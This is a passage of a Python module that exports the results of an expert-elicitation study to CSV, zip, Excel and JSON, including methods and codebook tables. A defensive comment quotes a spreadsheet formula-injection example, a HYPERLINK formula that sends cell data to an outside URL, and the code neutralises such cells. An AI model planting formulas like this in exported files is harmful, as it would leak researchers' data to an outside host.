#: distribution's sorted answers, the rationales) grow with the panel, to hundreds of
#: MB at 100,000 panelists, and are left in the database.
SUMMARY_PARTS: tuple[str, ...] = ("rows", "groups", "settings")


@dataclass(frozen=True)
class _StoredSummary:
    number: int
    closed_at: datetime | None
    quantile_method: str
    respondents: int
    #: The summary's statistics, :data:`SUMMARY_PARTS` only (those it has).
    statistics: dict[str, Any]
    #: What the round's answers started from ("previous" or "blank"; ``Round.started_from``).
    started_from: str | None = None


def _stored_summaries(session: Session, study: Study) -> list[_StoredSummary]:
    """Every closed round's stored summary, in round order, with the parts of its
    statistics an export reads (taken out by the database: ``->`` in PostgreSQL,
    ``json_extract`` in SQLite)."""
    parts = [RoundSummary.statistics[part] for part in SUMMARY_PARTS]
    rows = session.execute(
        select(
            Round.number,
            Round.closed_at,
            RoundSummary.quantile_method,
            RoundSummary.respondents,
            Round.started_from,
            *parts,
        )
        .join(RoundSummary.round)
        .where(Round.study_id == study.id)
        .order_by(Round.number)
    ).all()
    return [
        _StoredSummary(
            number=number,
            closed_at=closed_at,
            quantile_method=quantile_method,
            respondents=respondents,
            statistics={
                part: value
                for part, value in zip(SUMMARY_PARTS, values, strict=True)
                if value is not None
            },
            started_from=started_from,
        )
        for number, closed_at, quantile_method, respondents, started_from, *values in rows
    ]


def _summary_table(
    summaries: list[_StoredSummary], part: str, shown: Disclosure | None = None
) -> pd.DataFrame:
    """The stored rows (``"rows"``) or subgroup rows (``"groups"``, without masked
    groups' rows) of every round."""
    columns = SUBGROUP_TABLE_COLUMNS if part == "groups" else SUMMARY_TABLE_COLUMNS
    records = []
    for stored in summaries:
        rows = stored.statistics.get(part, [])
        if shown is not None:
            rows = visible_group_rows(rows, shown)
        for row in rows:
            record = dict(row)
            record["round"] = stored.number
            record.setdefault("quantile_method", stored.quantile_method)
            records.append(record)
    frame = pd.DataFrame.from_records(records, columns=columns)
    if not frame.empty:
        frame["round"] = frame["round"].astype("int64")
    return frame


# -- reproduction settings ------------------------------------------------------------------


def reproduction_settings(
    session: Session, study: Study, summaries: list[_StoredSummary] | None = None
) -> dict[str, Any]:
    """The settings each closed round's summary was computed with, as JSON (from the
    study's stored ``summaries`` when the caller has read them already: reading them
    again parses every summary again, seconds at 100,000 panelists).

    Summaries store their settings (quantile method, consensus rules, scales, the
    subgroup minimum) since this export was written; for older summaries they are
    rebuilt from the study: the items in use when the round closed (an item retired
    before the close is left out), each in the last version made before the close,
    with the study's current consensus settings.  The other parameters of
    :func:`analysis.summarize_round` are its defaults, which
    :func:`surveys.rounds.round_statistics` uses.
    """
    definition = study_definition(study)
    rounds = []
    if summaries is None:
        summaries = _stored_summaries(session, study)
    for stored in summaries:
        recorded = stored.statistics.get("settings")
        if recorded is None:
            at_close = replace(definition, items=tuple(_items_at(study, stored.closed_at)))
            recorded = settings_record(
                {
                    "quantile_method": stored.quantile_method,
                    "rules": consensus_rules(at_close),
                    **part_rules_setting(at_close),
                    **estimate_level_setting(at_close),
                    "scales": analysis_scales(at_close),
                },
                min_group_size=study.feedback_min_n,
            )
        rounds.append({"round": stored.number, **recorded})
    return {
        "study": study.slug,
        "software_version": software_version(),
        "parameters": summarize_round_parameters(),
        "bootstrap": "included: median_ci_low and median_ci_high are seeded and checked",
        "rounds": rounds,
    }


def _items_at(study: Study, moment: datetime | None) -> list[ItemDefinition]:
    """The study's items in use at ``moment``, each in its version of that moment."""
    result = []
    for item in study.items:
        if item.retired_at is not None and (moment is None or item.retired_at <= moment):
            continue
        spec = item.spec
        if moment is not None:
            earlier = [version for version in item.versions if version.created_at <= moment]
            if earlier:
                spec = earlier[-1].spec
        result.append(item_from_json(item.key, item.kind, spec))
    return result


def summarize_round_parameters() -> dict[str, Any]:
    """The defaults of :func:`analysis.summarize_round` that round summaries use."""
    chosen_per_round = {
        "frame",
        "rules",
        "part_rules",
        "quantile_method",
        "scales",
        "closing_round",
    }
    parameters: dict[str, Any] = {}
    for name, parameter in inspect.signature(analysis.summarize_round).parameters.items():
        if name in chosen_per_round:
            continue
        parameters[name] = parameter.default
    rule = parameters.get("stability_rule") or analysis.StabilityRule()
    parameters["stability_rule"] = {
        field.name: getattr(rule, field.name) for field in fields(analysis.StabilityRule)
    }
    return parameters


def software_version() -> str:
    """The installed version of elicit."""
    try:
        return importlib.metadata.version("elicit")
    except importlib.metadata.PackageNotFoundError:
        return "unknown"


# -- items and codebook --------------------------------------------------------------------


def _text(text: LocalizedText | None, language: str) -> str | None:
    """``text`` in ``language``, or ``None``."""
    if text is None:
        return None
    return dict(text.values).get(language)


def _labels(definition: ItemDefinition, language: str) -> str | None:
    """'value=label | …' of a likert scale in ``language``."""
    if definition.scale is None:
        return None
    labels = dict(definition.scale.labels).get(language)
    if not labels:
        return None
    start = definition.scale.minimum
    return " | ".join(f"{start + offset}={label}" for offset, label in enumerate(labels))


def _choices(definition: ItemDefinition, language: str) -> str | None:
    """'key=text | …' of the scenarios or ranking options in ``language`` (a
    cross-impact item's triggers first, then its scenarios)."""
    choices = (*definition.triggers, *(definition.scenarios or definition.options))
    if not choices:
        return None
    return " | ".join(f"{choice.key}={_text(choice.text, language) or ''}" for choice in choices)


def _items(study: Study, languages: list[str]) -> pd.DataFrame:
    """Every item, every version of its wording, in every language."""
    records = []
    for item in study.items:
        versions: Iterable[ItemVersion] = item.versions or []
        specs: list[tuple[int, dict[str, Any], str | None, datetime | None]] = [
            (v.version, v.spec, v.note, v.created_at) for v in versions
        ]
        if not specs:
            specs = [(item.version, item.spec, None, None)]
        for version, spec, note, created in specs:
            definition = item_from_json(item.key, item.kind, spec)
            bounds = definition.estimate_bounds
            for language in languages:
                records.append(
                    {
                        "item": item.key,
                        "kind": item.kind,
                        "position": item.position,
                        "version": version,
                        "current": version == item.version,
                        "version_note": note,
                        "version_created_at": created,
                        "language": language,
                        "section": definition.section,
                        "text": _text(definition.text, language),
                        "help": _text(definition.help, language),
                        "scale_min": definition.scale.minimum if definition.scale else None,
                        "scale_max": definition.scale.maximum if definition.scale else None,
                        "labels": _labels(definition, language),
                        "choices": _choices(definition, language),
                        "unit": _text(definition.unit, language),
                        "bounds": f"{bounds[0]:g}–{bounds[1]:g}" if bounds else None,
                        "consensus_rule": definition.consensus.describe()
                        if definition.consensus
                        else None,
                        "retired_at": item.retired_at,
                        "retired_reason": item.retired_reason,
                    }
                )
    frame = pd.DataFrame.from_records(records, columns=list(ITEM_COLUMNS))
    for column in ("version_created_at", "retired_at"):
        frame[column] = pd.to_datetime(frame[column], utc=True)
    return frame


def _codebook(study: Study, languages: list[str]) -> pd.DataFrame:
    """One row per column of every table, then one row per item with its scale."""
    per_language = [
        f"{name}_{language}" for name in ("text", "labels", "choices") for language in languages
    ]
    described = {
        "responses": RESPONSE_COLUMNS,
        "summaries": {**KEY_COLUMN_DESCRIPTIONS, **STATISTIC_COLUMNS},
        "subgroups": {**KEY_COLUMN_DESCRIPTIONS, **STATISTIC_COLUMNS},
        "items": ITEM_COLUMNS,
        "codebook": {
            **CODEBOOK_COLUMNS,
            **{
                name: (
                    "text",
                    f"Item entries: {name.rsplit('_', 1)[0]} in {name.rsplit('_', 1)[1]}.",
                )
                for name in per_language
            },
        },
        "methods": METHODS_COLUMNS,
        "resolutions": RESOLUTION_COLUMNS,
        "scores": SCORE_COLUMNS,
        "classical_model": CLASSICAL_MODEL_COLUMNS,
        "observations": OBSERVATION_COLUMNS,
    }
    columns_of = {
        "responses": list(RESPONSE_COLUMNS),
        "summaries": SUMMARY_TABLE_COLUMNS,
        "subgroups": SUBGROUP_TABLE_COLUMNS,
        "items": list(ITEM_COLUMNS),
        "codebook": [*CODEBOOK_COLUMNS, *per_language],
        "methods": list(METHODS_COLUMNS),
        "resolutions": list(RESOLUTION_COLUMNS),
        "scores": list(SCORE_COLUMNS),
        "classical_model": list(CLASSICAL_MODEL_COLUMNS),
        "observations": list(OBSERVATION_COLUMNS),
    }
    records: list[dict[str, Any]] = []
    for table in TABLES:
        for column in columns_of[table]:
            kind, description = described[table][column]
            records.append(
                {
                    "entry": "column",
                    "table": table,
                    "column": column,
                    "type": kind,
                    "description": description,
                }
            )
    default_language = languages[0]
    for item in study.items:
        definition = item_from_json(item.key, item.kind, item.spec)
        low: float | None = None
        high: float | None = None
        if definition.scale is not None:
            low, high = definition.scale.minimum, definition.scale.maximum
        elif definition.bounds is not None:
            low, high = definition.bounds
        record: dict[str, Any] = {
            "entry": "item",
            "table": "responses",
            "column": item.key,
            "type": item.kind,
            "description": _text(definition.text, default_language),
            "scale_min": low,
            "scale_max": high,
            "components": " | ".join(c for c in definition.components if c) or None,
        }
        for language in languages:
            record[f"text_{language}"] = _text(definition.text, language)
            record[f"labels_{language}"] = _labels(definition, language)
            record[f"choices_{language}"] = _choices(definition, language)
        records.append(record)
    return pd.DataFrame.from_records(records, columns=[*CODEBOOK_COLUMNS, *per_language])


# -- methods -----------------------------------------------------------------------------

DEFINITIONS: dict[str, str] = {
    "definition.ratings": (
        "Only submitted answers count; 'cannot judge' is excluded from every statistic and "
        "counted in n_cannot_judge; open text carries no number."
    ),
    "definition.quantiles": (
        "median, q1, q3, p30, p70: sample quantiles under the quantile method (Hyndman & Fan "
        "1996, numpy's method names); iqr = q3 − q1."
    ),
    "definition.dispersion": "sd and cv use n − 1 (as R and pandas); cv = sd / mean.",
    "definition.consensus": (
        "Each item's rule (its own, its kind's or the study default) is evaluated on the "
        "round's statistics: consensus, no_consensus, or dissensus (a split criterion)."
    ),
    "definition.stability": (
        "Against the previous round, over panelists who answered both: stable when fewer "
        "than max_changed_share changed their answer; paired Wilcoxon signed-rank test "
        "(V = W⁺ as R's wilcox.test) with the zero method and correction given here. "
        "round.N.started_from says what round N's answers started from: 'previous' (each "
        "panelist's own answer of round N − 1, so an answer submitted as it was shown "
        "counts as unchanged) or 'blank' (every answer given anew)."
    ),
    "definition.scenarios": (
        "Scenario sets are rescaled to sum to 100 per panelist before any statistic."
    ),
    "definition.pooling": (
        "Probabilities: mean (linear pool), median, trimmed mean, geometric mean of odds and "
        "extremised log-odds with factor extremizing_factor, after clipping to "
        "[probability_clip, 1 − probability_clip]."
    ),
    "definition.estimates": (
        "Numeric estimates (IDEA protocol): intervals standardised to estimate_level percent "
        "(or, for an item a round's estimate_levels names, to that item's level) by linear "
        "extrapolation around the best guess, then averaged."
    ),
    "definition.subgroups": (
        "Subgroup rows: the same statistics within each group; a group with fewer than "
        "feedback_min_n ratings is masked (masked = True, statistics empty), and the smallest "
        "visible group of a distribution with one masked group is masked too."
    ),
    "definition.bootstrap": (
        "median_ci_low / median_ci_high: percentile bootstrap of the median with "
        "bootstrap_resamples resamples at the given confidence, seeded with seed; included "
        "in reproduce.py's check."
    ),
    "definition.reproduce": (
        "reproduce.py recomputes every summary row from responses.csv with settings.json "
        "and compares every statistic (tolerance 1e-9, missing equals missing)."
    ),
}


def _methods(
    study: Study,
    summaries: list[_StoredSummary],
    settings: dict[str, Any],
    shown: Disclosure,
    protocol: ProtocolRecord | None = None,
) -> pd.DataFrame:
    """Key/value rows: the settings and definitions a methods section reports, the
    protocol's stamp and each amendment (``amendment.N.*``, oldest first)."""
    definition = study_definition(study)
    method = study.quantile_method
    rows: list[tuple[str, Any]] = [
        ("study", study.slug),
        ("exported_at", utcnow().isoformat()),
        ("software_version", settings["software_version"]),
        ("quantile_method", method),
        ("hyndman_fan_type", analysis.QUANTILE_METHODS.index(method) + 1),
        ("consensus_rule.default", definition.consensus.default.describe()),
    ]
    rows += [
        (f"consensus_rule.{kind}", rule.describe()) for kind, rule in definition.consensus.by_kind
    ]
    for item in all_item_definitions(study):
        if item.consensus is not None:
            rows.append((f"consensus_rule.item.{item.key}", item.consensus.describe()))
        for part, rule in item.part_rules:
            described = rule.describe() if rule is not None else "none"
            rows.append((f"consensus_rule.item.{item.key}.{part}", described))
    rows += [
        ("feedback_min_n", study.feedback_min_n),
        ("rationale_outside_iqr", study.rationale_outside_iqr),
        ("cannot_judge_offered", study.cannot_judge),
        ("anonymity", study.anonymity),
        (
            "disclosure",
            (
                "blind: answers of closed rounds only, without their times; the group of "
                f"a panelist in a group of fewer than {study.feedback_min_n} members is "
                f"shown as {MASKED_GROUP}, and such groups have no subgroup rows"
            )
            if shown.blind
            else "standard: every answer with its times and every group",
        ),
        ("max_rounds", study.max_rounds),
        ("languages", ", ".join(study.languages["codes"])),
        ("rounds_closed", len(summaries)),
    ]
    rows += [(f"round.{s.number}.quantile_method", s.quantile_method) for s in summaries]
    rows += [(f"round.{s.number}.respondents", s.respondents) for s in summaries]
    for stored in summaries:
        applied = sorted(
            {row["rule"] for row in stored.statistics.get("rows", []) if row.get("rule")}
        )
        rows.append((f"round.{stored.number}.consensus_rules", " | ".join(applied)))
    rows += [
        (f"round.{entry['round']}.min_group_size", entry["min_group_size"])
        for entry in settings["rounds"]
    ]
    rows += [
        (f"round.{stored.number}.started_from", stored.started_from or "")
        for stored in summaries
        if stored.number > 1
    ]
    rows.append(("consensus_items", study.consensus_items))
    rows.append(("carry_over", study.carry_over))
    rows += _protocol_rows(protocol)
    for name, value in settings["parameters"].items():
        rows.append((f"parameter.{name}", json.dumps(value)))
    rows.append(("bootstrap", settings["bootstrap"]))
    rows += list(DEFINITIONS.items())
    if any(item.kind == "cross_impact" for item in study.items):
        rows.append(("definition.cross_impact", CROSS_IMPACT_DEFINITION))
    seeds = [item for item in all_item_definitions(study) if item.kind == "seed"]
    if seeds:
        # The known answers: the export is the facilitator's and the researchers', never
        # an expert's, and the classical model cannot be reproduced without them.
        rows.append(("definition.classical_model", CLASSICAL_MODEL_DEFINITION))
        for seed in seeds:
            rows.append((f"seed.{seed.key}.answer", seed.seed_answer))
            rows.append((f"seed.{seed.key}.background", seed.background))
    return pd.DataFrame(
        {"key": [key for key, _ in rows], "value": [str(value) for _, value in rows]}
    )


def _with_tracker_definition(methods: pd.DataFrame, observed: pd.DataFrame) -> pd.DataFrame:
    """``methods`` with how the tracker uses the observations, when there are any (a
    study without observations keeps its methods table as it was)."""
    if observed.empty:
        return methods
    row = pd.DataFrame({"key": ["definition.scenario_tracker"], "value": [TRACKER_DEFINITION]})
    return pd.concat([methods, row], ignore_index=True)


#: Written to the methods table only by studies with cross-impact items, so that every
#: other study's export stays as it was.
CROSS_IMPACT_DEFINITION = (
    "Cross-impact items: each panelist's scenario set per trigger (P(scenario | "
    "trigger)) and their scenario item's set, each rescaled to sum to 1, pooled per "
    "scenario by the mean (linear pool) and rescaled to sum to 1; a trigger's impact is "
    "the pooled conditional minus the pooled unconditional probability, its spread that "
    "of the panelists' own shifts.  Each panelist's coherence (law of total "
    "probability with their own trigger probabilities: t·c ≤ P(S) ≤ t·c + 1 − t) is "
    "shown only to that panelist; the summary keeps counts only (round summary "
    "'cross_impact', analysis.cross_impact)."
)
"""How cross-impact items are summarised (the methods table's ``definition.cross_impact``)."""

#: Written to the methods table only by studies with seed questions (with each seed
#: question's known answer and background), so that every other export stays as it was.
CLASSICAL_MODEL_DEFINITION = (
    "Cooke's classical model at each close (round summary 'classical_model', "
    "analysis.classical_model): each panelist's latest answer to every seed question "
    "(q05, q50, q95) and numeric estimate, the estimate standardised to a 90 % interval "
    "around the best guess (L' = B - (B - L)*90/C, U' = B + (U - B)*90/C) read as "
    "q05 = L', q50 = B, q95 = U'; background per seed question as defined, uniform for "
    "estimates; 10 % overshoot; global weights with the optimised cut-off; panelists "
    "without a seed answer left out; not run with fewer than two scored panelists."
)
"""How seed questions are used (the methods table's ``definition.classical_model``)."""


def all_item_definitions(study: Study) -> list[ItemDefinition]:
    """Every item's current definition, retired ones included."""
    return [item_from_json(item.key, item.kind, item.spec) for item in study.items]


# -- writers -----------------------------------------------------------------------------


def _as_text_timestamps(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every timestamp column as ISO 8601 text (missing stays missing)."""
    result = frame.copy()
    for column in result.columns:
        if isinstance(result[column].dtype, pd.DatetimeTZDtype):
            # Each distinct time formatted once (the answers of one submission share
            # theirs); a missing one has code -1, which picks the None at the end.
            codes, times = pd.factorize(result[column])
            texts = np.array([moment.isoformat() for moment in times] + [None], dtype=object)
            result[column] = texts[codes].tolist()  # as a list: pandas types it
    return result


# -- writers -----------------------------------------------------------------------------
#
# Spreadsheet formula injection.  Experts type rationales and open answers, facilitators
# write item texts; a spreadsheet that opens a CSV file reads a cell starting with "="
# (LibreOffice; Excel also "+", "-" and "@") as a formula and runs it, so an answer such
# as =HYPERLINK("http://…?"&A1, "click") could send a researcher's data away.  The raw CSV
# files must stay exact (pandas, R and reproduce.py read them, and "-3" is a number), so
# the zip carries a second copy of every table for spreadsheets, in SPREADSHEET_FOLDER,
# whose risky text cells begin with an apostrophe (OWASP, "CSV Injection"); the workbook
# stores every text as a string, which no spreadsheet evaluates; JSON is evaluated by
# nothing and keeps the exact text.

SPREADSHEET_FOLDER = "spreadsheet"
"""The folder of the CSV export that holds the spreadsheet-safe copy of every table."""

#: What a spreadsheet reads as the start of a formula: the four operators, and tab and
#: carriage return, after which some spreadsheets still find one (OWASP's list), with
#: the full-width forms of the operators, which some input methods turn into them.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
#: A text that is a plain number: a spreadsheet reads it as that number, evaluating
#: nothing, so it keeps its form ("-3" stays -3).
_PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$")


def spreadsheet_text(value: Any) -> Any:
    """``value`` as the spreadsheet copy writes it: a text whose first character after
    any spaces would start a formula, and which is not a plain number, gets an
    apostrophe in front (shown by the spreadsheet, which then keeps the cell as text);
    every other value, numbers first of all, is unchanged."""
    if not isinstance(value, str):
        return value
    start = value.lstrip(" ")[:1]
    if start in FORMULA_STARTS and not _PLAIN_NUMBER.match(value.strip()):
        return "'" + value
    return value


README = """\
Export of the elicit study {study} (elicit {version}).

responses.csv   every answer in long format: one row per number, open text in `text`
summaries.csv   every statistic stored when each round closed, per item and component
subgroups.csv   the same per subgroup; small groups masked (masked = True, values empty)
items.csv       every item, every version of its wording, in every language
codebook.csv    every column of every table, then every item with its scale and labels
methods.csv     quantile method, consensus rules, software version and definitions
resolutions.csv what happened for each resolved item: outcome, date, source
scores.csv      Brier and logarithmic scores of each pooling method and of each
                panelist (by pseudonym) on the resolved items
classical_model.csv Cooke's classical model at each close: each expert's
                calibration, information and weight (experts by number, no
                pseudonym), both combinations' scores and percentiles per item
observations.csv the scenario tracker's dated observations after the study: a
                signpost seen or not seen, a trigger that occurred (never who
                recorded them)
settings.json   the settings reproduce.py recomputes the summaries with
reproduce.py    run `python reproduce.py` here, with elicit's `analysis` package
                importable: it recomputes every summary from responses.csv and checks
                each statistic (PASS / FAIL)
spreadsheet/    the same ten tables for opening in a spreadsheet (Excel, LibreOffice,
                Google Sheets): a text that a spreadsheet would run as a formula (one
                starting with = + - @, a tab or a return) begins with an apostrophe.
                The files above hold every text exactly as typed; read those with
                pandas or R, and open only these in a spreadsheet.

No name, email or access link of any panelist is in this export; panelists appear only
by pseudonym, group and language.
"""


def _frames(export: Export, name: str) -> Iterator[pd.DataFrame]:
    """Table ``name`` of ``export`` as frames: a streamed export's responses a chunk
    at a time, every other table in one."""
    table = getattr(export, name)
    if isinstance(table, ResponseRows):
        yield from table.chunks()
    else:
        yield table


def _row_count(export: Export, name: str) -> int:
    """The number of rows of table ``name`` of ``export``."""
    table = getattr(export, name)
    return table.count() if isinstance(table, ResponseRows) else len(table)


@contextmanager
def _binary_output(target: Path | str | IO[bytes]) -> Iterator[IO[bytes]]:
    """``target`` as a binary file to write: a path opened here (and closed after), an
    open stream as it is."""
    if isinstance(target, str | os.PathLike):
        with open(target, "wb") as file:
            yield file
    else:
        yield target


# -- CSV ---------------------------------------------------------------------------------


def write_csv(export: Export, folder: Path | str) -> int:
    """Write one CSV per table, ``settings.json``, ``reproduce.py``, ``README.txt`` and
    the spreadsheet-safe copies (:data:`SPREADSHEET_FOLDER`) into ``folder`` (created
    if needed); return the number of response rows written."""
    target = Path(folder)
    (target / SPREADSHEET_FOLDER).mkdir(parents=True, exist_ok=True)
    responses = 0
    for name in TABLES:
        with (
            open(target / f"{name}.csv", "wb") as raw,
            open(target / SPREADSHEET_FOLDER / f"{name}.csv", "wb") as safe,
        ):
            rows = _write_csv_table(_frames(export, name), raw, safe)
        if name == "responses":
            responses = rows
    for name, payload in _csv_extras(export).items():
        (target / name).write_bytes(payload)
    return responses


def write_csv_zip(export: Export, stream: IO[bytes]) -> int:
    """Write the files of :func:`write_csv` as a zip archive into ``stream`` (each
    under a folder named after the study); return the number of response rows.

    A zip archive is written one member after another, so each table's spreadsheet
    copy waits in a temporary file while the table itself goes into the archive: the
    responses are read once, and both files hold the same rows.
    """
    responses = 0
    with zipfile.ZipFile(stream, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name in TABLES:
            large = name == "responses"  # may pass ZIP's 2 GiB limit: ZIP64 from the start
            with tempfile.TemporaryFile() as safe:
                member = _zip_member(f"{export.study}/{name}.csv")
                with archive.open(member, "w", force_zip64=large) as raw:
                    rows = _write_csv_table(_frames(export, name), raw, safe)
                safe.seek(0)
                member = _zip_member(f"{export.study}/{SPREADSHEET_FOLDER}/{name}.csv")
                with archive.open(member, "w", force_zip64=large) as copy:
                    shutil.copyfileobj(safe, copy, 1 << 20)
            if large:
                responses = rows
        for name, payload in _csv_extras(export).items():
            archive.writestr(f"{export.study}/{name}", payload)
    return responses


def _zip_member(name: str) -> zipfile.ZipInfo:
    """A member of the CSV zip as ``ZipFile.writestr`` makes it: compressed, dated now,
    readable and writable by its owner once unpacked."""
    member = zipfile.ZipInfo(name, date_time=time.localtime(time.time())[:6])
    member.compress_type = zipfile.ZIP_DEFLATED
    member.external_attr = 0o600 << 16
    return member


def _write_csv_table(frames: Iterable[pd.DataFrame], raw: IO[bytes], safe: IO[bytes]) -> int:
    """Write a table, given as consecutive ``frames``, as CSV with one header line and
    CRLF line ends (RFC 4180): exactly into ``raw`` (UTF-8), and each cell passed
    through :func:`spreadsheet_text` into ``safe`` (UTF-8 after a byte-order mark,
    without which Excel reads UTF-8 as the system's legacy encoding); return the number
    of rows.

    Python's CSV writer quotes a field holding a character of the line terminator, so
    with CRLF a text holding a lone carriage return is quoted; with a bare LF it was
    written unquoted, and every reader split the row there.
    """
    rows = 0
    header = True
    for frame in frames:
        text = _as_text_timestamps(frame)
        raw.write(text.to_csv(index=False, header=header, lineterminator="\r\n").encode("utf-8"))
        copy = _spreadsheet_copy(text).to_csv(index=False, header=header, lineterminator="\r\n")
        safe.write(copy.encode("utf-8-sig" if header else "utf-8"))
        rows += len(frame)
        header = False
    return rows


def _spreadsheet_copy(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every cell passed through :func:`spreadsheet_text`, as
    ``frame.map(spreadsheet_text)`` but with one call per distinct text of a column
    rather than per cell (a column repeats its texts: the study, items, groups, times),
    and only the cells that change are replaced (texts that may start a formula)."""
    result = frame.copy()
    for name in result.columns:
        column = result[name]
        if not (column.dtype == object or isinstance(column.dtype, pd.StringDtype)):
            continue  # numbers and booleans: unchanged
        codes, distinct = pd.factorize(column)  # a missing value has code -1
        values = list(distinct)
        safe = [spreadsheet_text(value) for value in values]
        changed = [code for code, value in enumerate(values) if safe[code] is not value]
        if changed:
            replaced = np.isin(codes, changed)
            result.loc[replaced, name] = np.array(safe, dtype=object)[codes[replaced]]
    return result


def _csv_extras(export: Export) -> dict[str, bytes]:
    """The CSV export's files besides the tables, by name."""
    return {
        "settings.json": (json.dumps(export.settings, indent=2) + "\n").encode("utf-8"),
        "reproduce.py": REPRODUCE_SCRIPT.read_bytes(),
        "README.txt": README.format(
            study=export.study, version=export.settings["software_version"]
        ).encode("utf-8"),
    }


# -- Excel -------------------------------------------------------------------------------

SPREADSHEET_MAX_ROWS = 1_048_576
"""The rows a sheet of a workbook holds, its header row included (Excel's limit, which
LibreOffice Calc shares)."""


class TooLargeForSpreadsheet(DomainError):
    """A table of the export has more rows than a sheet holds: no workbook is written
    (a truncated one would pass for the whole study), the CSV export holds every row."""

    def __init__(self, sheet: str, rows: int) -> None:
        super().__init__(
            f"the {sheet} sheet would need {rows:,} rows, more than the "
            f"{SPREADSHEET_MAX_ROWS:,} a spreadsheet holds; nothing was written: export "
            "as CSV instead, which holds every row"
        )
        #: The first table, in the order of :data:`TABLES`, that does not fit.
        self.sheet = sheet
        #: The rows its sheet would need, the header included.
        self.rows = rows
        self.limit = SPREADSHEET_MAX_ROWS


def check_fits_spreadsheet(export: Export) -> None:
    """Raise :class:`TooLargeForSpreadsheet` if a table of ``export`` needs more rows
    than a sheet holds (the small tables are measured first; the responses are counted
    from their answers, which takes one read of them)."""
    for name in sorted(TABLES, key=lambda table: table == "responses"):
        rows = _row_count(export, name) + 1
        if rows > SPREADSHEET_MAX_ROWS:
            raise TooLargeForSpreadsheet(name, rows)


def write_xlsx(export: Export, path: Path | str | IO[bytes]) -> int:
    """Write an Excel workbook with one sheet per table (methods last); return the
    number of response rows.  Refuses (:class:`TooLargeForSpreadsheet`) before writing
    anything when a table does not fit in a sheet.

    The workbook is written in openpyxl's write-only mode, a row at a time, the
    responses a chunk at a time.  The cells are those pandas' ``to_excel`` wrote: a
    missing value is an empty cell, an infinite number the text ``inf`` or ``-inf``.
    Every text is stored as a string cell with its text unchanged: openpyxl would take
    a text starting with "=" for a formula and one such as "#N/A" for an error value,
    so those are typed as strings (no spreadsheet evaluates a string cell).  Characters
    that the file format cannot store (C0 controls other than tab, line feed and
    carriage return) are dropped.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font

    check_fits_spreadsheet(export)
    book = Workbook(write_only=True)
    bold = Font(bold=True)

    def cell(sheet: Any, value: Any) -> Any:
        """``value`` as a cell of ``sheet``."""
        if isinstance(value, str):
            value = ILLEGAL_CHARACTERS_RE.sub("", value)
            if (len(value) > 1 and value.startswith("=")) or value in ERROR_CODES:
                text = WriteOnlyCell(sheet, value=value)
                text.data_type = "s"
                return text
            return value
        if isinstance(value, float):
            if math.isnan(value):
                return None
            if math.isinf(value):
                return "inf" if value > 0 else "-inf"
            return value
        if value is pd.NA or value is pd.NaT:
            return None
        return value

    responses = 0
    for name in TABLES:
        sheet = book.create_sheet(name)
        header = True
        for frame in _frames(export, name):
            if header:
                titles = [WriteOnlyCell(sheet, value=str(column)) for column in frame.columns]
                for title in titles:
                    title.font = bold
                sheet.append(titles)
                header = False
            for row in _as_text_timestamps(frame).itertuples(index=False, name=None):
                sheet.append([cell(sheet, value) for value in row])
            if name == "responses":
                responses += len(frame)
    book.save(path)
    return responses


# -- JSON --------------------------------------------------------------------------------


def write_json(export: Export, path: Path | str | IO[bytes]) -> int:
    """Write one JSON document: ``{"study", "settings", <table>: [records…]}``; return
    the number of response rows.

    Missing values are ``null``; timestamps ISO 8601 text in UTC.  Texts are exactly as
    typed: JSON is read by programs, which evaluate nothing (no spreadsheet opens it
    without an import that types each value).  Written a record at a time, the bytes
    are those of ``json.dumps(document, ensure_ascii=False, indent=1)`` and a newline.
    """
    responses = 0
    with _binary_output(path) as out:
        head = '{\n "study": ' + encode_basestring(export.study)
        head += ',\n "settings": ' + _json_nested(export.settings, "\n ")
        out.write(head.encode("utf-8"))
        for name in TABLES:
            out.write((",\n " + encode_basestring(name) + ": ").encode("utf-8"))
            records = 0
            for frame in _frames(export, name):
                parts = []
                for record in _json_records(_as_text_timestamps(frame)):
                    parts.append(("[\n  " if records == 0 else ",\n  ") + record)
                    records += 1
                out.write("".join(parts).encode("utf-8"))
            out.write(("\n ]" if records else "[]").encode("utf-8"))
            if name == "responses":
                responses = records
        out.write(b"\n}\n")
    return responses


def _json_records(frame: pd.DataFrame) -> Iterator[str]:
    """Each row of ``frame`` as ``json.dumps(…, ensure_ascii=False, indent=1)`` writes
    it two levels deep in the document (a record of a table of the document): the cells
    of ``frame.to_dict(orient="records")`` through :func:`_json_value`, read column by
    column."""
    if frame.columns.empty:
        yield from ("{}" for _ in range(len(frame)))
        return
    keys = ["   " + encode_basestring(str(column)) + ": " for column in frame.columns]
    columns = [frame[column].tolist() for column in frame.columns]
    for row in zip(*columns, strict=True):
        members = [key + _json_cell(value) for key, value in zip(keys, row, strict=True)]
        yield "{\n" + ",\n".join(members) + "\n  }"


def _json_cell(value: Any) -> str:
    """A cell as JSON: the plain types at once, anything else through
    :func:`_json_value` and :func:`_json_scalar`."""
    kind = type(value)
    if kind is str:
        return encode_basestring(value)
    if value is None:
        return "null"
    if kind is float:
        return float.__repr__(value) if math.isfinite(value) else "null"
    if kind is bool:
        return "true" if value else "false"
    if kind is int:
        return int.__repr__(value)
    return _json_scalar(_json_value(value))


def _json_scalar(value: Any) -> str:
    """A plain value as ``json.dumps`` writes it in a record (see :func:`_json_records`)."""
    if value is None:
        return "null"
    if value is True:
        return "true"
    if value is False:
        return "false"
    kind = type(value)
    if kind is str:
        return encode_basestring(value)
    if kind is int:
        return int.__repr__(value)
    if kind is float:
        return float.__repr__(value)
    return _json_nested(value, "\n   ")  # anything else, as json.dumps nests it


def _json_nested(value: Any, newline: str) -> str:
    """``value`` as ``json.dumps(…, ensure_ascii=False, indent=1)`` writes it nested
    in a document, each of its lines after the first starting with ``newline``."""
    return json.dumps(value, ensure_ascii=False, indent=1).replace("\n", newline)


def _json_value(value: Any) -> Any:
    """A cell as a plain JSON value: NaN and NA become ``None``."""
    if value is None or value is pd.NA:
        return None
    if hasattr(value, "item") and not isinstance(value, str):
        value = value.item()
    if isinstance(value, float) and not math.isfinite(value):
        return None
    return value


# -- downloads ---------------------------------------------------------------------------

